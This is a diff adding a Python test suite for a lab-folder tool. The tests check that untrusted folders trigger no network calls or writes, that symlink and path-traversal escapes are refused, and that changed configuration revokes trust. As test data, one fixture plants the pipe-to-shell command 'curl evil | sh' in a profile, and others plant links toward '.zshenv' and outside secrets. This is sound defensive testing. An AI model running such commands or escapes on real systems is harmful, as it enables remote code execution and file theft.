@@ -1,0 +1,278 @@
+"""A lab folder from a stranger: nothing happens before it is trusted, and nothing leaves it after that."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import sqlite3
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from labtui.cluster.inside import (
+    files_inside,
+    make_folder_inside,
+    open_inside,
+    read_inside,
+    stat_inside,
+    write_inside,
+)
+from labtui.domain.errors import FolderError, LabError, StoreError, UsageError
+from labtui.session import trust as trusting
+from labtui.session.answers import read_answers, save_answers
+from labtui.session.folder import FolderLock, LabFolder, find_folder
+from labtui.session.session import Session
+from labtui.session.store import Store
+from labtui.session.trust import NotTrusted, check_trust, forget, trust
+from tests.session.conftest import Bench, accepted, draft
+from tests.session.scripted import ScriptedCluster, keras_log
+
+
+def tree(folder: Path) -> dict[str, bytes | str]:
+    """Everything in a folder: bytes of files, targets of links."""
+    found = {}
+    for path in sorted(folder.rglob("*")):
+        name = path.relative_to(folder).as_posix()
+        if path.is_symlink():
+            found[name] = str(path.readlink())
+        elif path.is_file():
+            found[name] = path.read_bytes()
+    return found
+
+
+@pytest.fixture
+def received(bench: Bench, tmp_path: Path) -> Path:
+    """What a stranger packed: a running job, a planned one, a link in place of a mirror, no record of who wrote it."""
+    accepted(bench)
+    bench.cluster.reachable = False
+    bench.session.submit(draft(2))
+    bench.session.close()
+    folder = tmp_path / "home" / "downloads" / "lab"
+    shutil.copytree(bench.path, folder, symlinks=True)
+    with sqlite3.connect(folder / "labtui.db") as database:
+        database.execute("DELETE FROM meta")
+    database.close()
+    for log in (folder / "logs").iterdir():
+        log.unlink()
+    name = Path(bench.cluster.log("100")).name
+    (folder / "logs" / name).symlink_to("../../../.zshenv")
+    return folder
+
+
+def test_nothing_is_asked_sent_or_written_before_trust(received: Path, bench: Bench) -> None:
+    before = tree(received)
+    calls = len(bench.cluster.calls)
+    with Session.open(received, factory=bench.cluster.factory) as session:
+        assert isinstance(session.why_read_only, NotTrusted)
+        assert len(session.state.submissions) == 2
+        for change in (
+            lambda: session.submit(draft()),
+            lambda: session.cancel(1),
+            lambda: session.hold(1),
+            session.push,
+            session.site_load,
+        ):
+            with pytest.raises(NotTrusted, match="not trusted"):
+                change()
+        session.refresh()
+        session.connect_now()
+    assert len(bench.cluster.calls) == calls
+    assert tree(received) == before
+    assert not (received.parents[1] / ".zshenv").exists()
+
+
+def test_a_trusted_folder_writes_through_no_link(
+    received: Path, open_bench: Callable[..., Bench], bench: Bench
+) -> None:
+    trust(received)
+    bench.cluster.reachable = True
+    bench.cluster.write("100", keras_log(30, 5))
+    (bench.path / "logs").rename(bench.path / "old-logs")
+    (bench.path / "logs").symlink_to(received / "logs")  # a link on the way
+    again = open_bench(bench.cluster)
+    again.run(60)
+    assert any("link" in problem.sentence for problem in again.session.state.problems)
+    (bench.path / "logs").unlink()
+    shutil.copytree(received / "logs", bench.path / "logs", symlinks=True)  # and a link at its end
+    again.run(200)
+    assert any("link" in problem.sentence for problem in again.session.state.problems)
+    assert not (received.parents[1] / ".zshenv").exists() and not (bench.path.parents[1] / ".zshenv").exists()
+
+
+@pytest.mark.parametrize(
+    "arguments", [("watch",), ("submit", "10.5"), ("doctor",), ("push",), ("export",), ("repair",)]
+)
+def test_without_a_terminal_a_command_ends_with_the_hint(received: Path, arguments: tuple[str, ...]) -> None:
+    before = tree(received)
+    done = subprocess.run(
+        [sys.executable, "-m", "labtui", *arguments],
+        cwd=received,
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert done.returncode == 2, done.stderr
+    words = " ".join(done.stderr.split())
+    assert "is not trusted" in words and "add `--trust`" in words and "connect to login1" in words
+    assert tree(received) == before
+
+
+@pytest.mark.parametrize("arguments", [("check",), ("results",), ("queue", "--offline"), ("log", "1")])
+def test_what_only_looks_works_and_writes_nothing(received: Path, arguments: tuple[str, ...]) -> None:
+    before = tree(received)
+    done = subprocess.run(
+        [sys.executable, "-m", "labtui", *arguments],
+        cwd=received,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert done.returncode in (0, 1), done.stderr
+    assert tree(received) == before
+
+
+def test_trust_is_of_a_folder_as_it_was(lab_path: Path, tmp_path: Path) -> None:
+    """Made here: trusted. Moved, another id, another owner, other commands: asked again."""
+    assert check_trust(lab_path) is None
+    moved = lab_path.with_name("moved")
+    lab_path.rename(moved)
+    assert check_trust(moved) is not None
+    moved.rename(lab_path)
+    assert check_trust(lab_path) is None
+    own_id = (lab_path / trusting.ID_FILE).read_bytes()
+    (lab_path / trusting.ID_FILE).write_bytes(b"0" * 32)
+    assert check_trust(lab_path) is not None
+    (lab_path / trusting.ID_FILE).write_bytes(own_id)
+    profile = tmp_path / "small.toml"
+    text = profile.read_text()
+    profile.write_text(f'quota_command = "curl evil | sh"\n{text}')
+    why = check_trust(lab_path)
+    assert why is not None and any("curl evil | sh" in line for line in why.doing)
+    trust(lab_path)
+    assert check_trust(lab_path) is None
+    forget(lab_path)
+    assert check_trust(lab_path) is not None
+
+
+def test_another_owner_is_another_folder(lab_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A folder of somebody else is never taken from a parent, and no record fits it."""
+    inner = lab_path / "scripts"
+    assert find_folder(inner) == lab_path
+    monkeypatch.setattr(os, "geteuid", lambda: lab_path.stat().st_uid + 1, raising=False)
+    monkeypatch.setattr(trusting, "owner_of", lambda path: 4711)
+    with pytest.raises(UsageError, match="no lab folder"):
+        find_folder(inner)
+    assert check_trust(lab_path) is not None
+
+
+@pytest.fixture
+def snare(lab_path: Path, tmp_path: Path) -> tuple[LabFolder, Path]:
+    """A trusted folder, and a place outside it that links will lead to."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret").write_bytes(b"\x89PNG secret")
+    return LabFolder.open(lab_path), outside
+
+
+PATHS = (
+    "link",
+    "linked/secret",
+    "linked/deep/new",
+    "scripts/../../outside/secret",
+    "../outside/secret",
+    "pipe",
+    "scripts",
+)
+
+
+@pytest.mark.parametrize("name", PATHS)
+def test_no_path_leads_out(snare: tuple[LabFolder, Path], name: str) -> None:
+    folder, outside = snare
+    root = folder.path
+    (root / "link").symlink_to(outside / "secret")
+    (root / "linked").symlink_to(outside)
+    os.mkfifo(root / "pipe")
+    before = tree(outside)
+    for path in (name, root / name):
+        assert stat_inside(root, path) is None
+        with pytest.raises(OSError):
+            read_inside(root, path)
+        if name not in ("pipe", "scripts"):
+            with pytest.raises(OSError):
+                write_inside(root, path, b"mine")
+            with pytest.raises(OSError):
+                os.close(open_inside(root, path, os.O_WRONLY | os.O_CREAT | os.O_APPEND))
+    if name.startswith("linked"):
+        with pytest.raises(OSError, match="link"):
+            make_folder_inside(root, "linked/deep")
+        assert list(files_inside(root, "linked")) == []
+    assert tree(outside) == before
+
+
+def test_files_in_the_folder_are_written_whole(snare: tuple[LabFolder, Path]) -> None:
+    folder, _ = snare
+    os.umask(old := os.umask(0))
+    try:
+        os.umask(0)
+        folder.write("deep/er/file", b"one")
+        folder.write(folder.path / "deep/er/file", b"two")
+    finally:
+        os.umask(old)
+    file = folder.path / "deep/er/file"
+    assert folder.read("deep/er/file") == b"two" and file.stat().st_mode & 0o777 == 0o600
+    assert file.parent.stat().st_mode & 0o777 == 0o700
+    assert [path.name for path in file.parent.iterdir()] == ["file"]
+    assert list(files_inside(folder.path, "deep")) == [file]
+
+
+def test_each_kind_of_file_refuses_a_link(snare: tuple[LabFolder, Path]) -> None:
+    """Scripts, answers, the database, its lock, pictures and exports: one helper, so one answer."""
+    from labtui.cluster.atomic_file import write_whole
+    from labtui.domain.errors import ExportError
+    from labtui.session.labs import load_edition
+
+    folder, outside = snare
+    root, before = folder.path, tree(outside)
+    (root / "scripts" / "stolen.py").symlink_to(outside / "secret")
+    assert "stolen.py" not in folder.script_files()
+    edition = load_edition("hpc4ai-ch10", folder)
+    task = next(task for task in edition.tasks if task.questions)
+    shutil.rmtree(root / "answers")
+    (root / "answers").symlink_to(outside)
+    with pytest.raises(FolderError, match="link"):
+        save_answers(folder, task, "mine", based_on="")
+    (outside / f"{task.id}.md").write_bytes(b"# theirs")
+    with pytest.raises(FolderError, match="link"):
+        read_answers(folder, task)
+    (outside / f"{task.id}.md").unlink()
+    (root / "plots").rmdir()
+    (root / "plots").symlink_to(outside)
+    with pytest.raises(ExportError, match="link"):
+        write_whole(root / "plots" / "speedup.png", b"x", root)
+    for ending in ("", "-wal", "-shm"):
+        (root / "labtui.db").unlink(missing_ok=True)
+        (root / f"labtui.db{ending}").symlink_to(outside / "database")
+        with pytest.raises(StoreError, match="link"):
+            Store(folder.database_path)
+        (root / f"labtui.db{ending}").unlink()
+    folder.lock_path.symlink_to(outside / "secret")
+    with pytest.raises(FolderError, match="link"):
+        FolderLock(folder.lock_path).acquire()
+    assert tree(outside) == before
+
+
+def test_a_damaged_record_is_no_trust(lab_path: Path) -> None:
+    for record in trusting.records_folder().iterdir():
+        record.write_bytes(b"{")
+    assert isinstance(check_trust(lab_path), LabError)
+
+
+def test_a_connection_is_made_once_trusted(received: Path, bench: Bench) -> None:
+    trust(received)
+    cluster = ScriptedCluster(bench.clock)
+    with Session.open(received, start=False, clock=bench.clock, factory=cluster.factory) as session:
+        assert not session.read_only
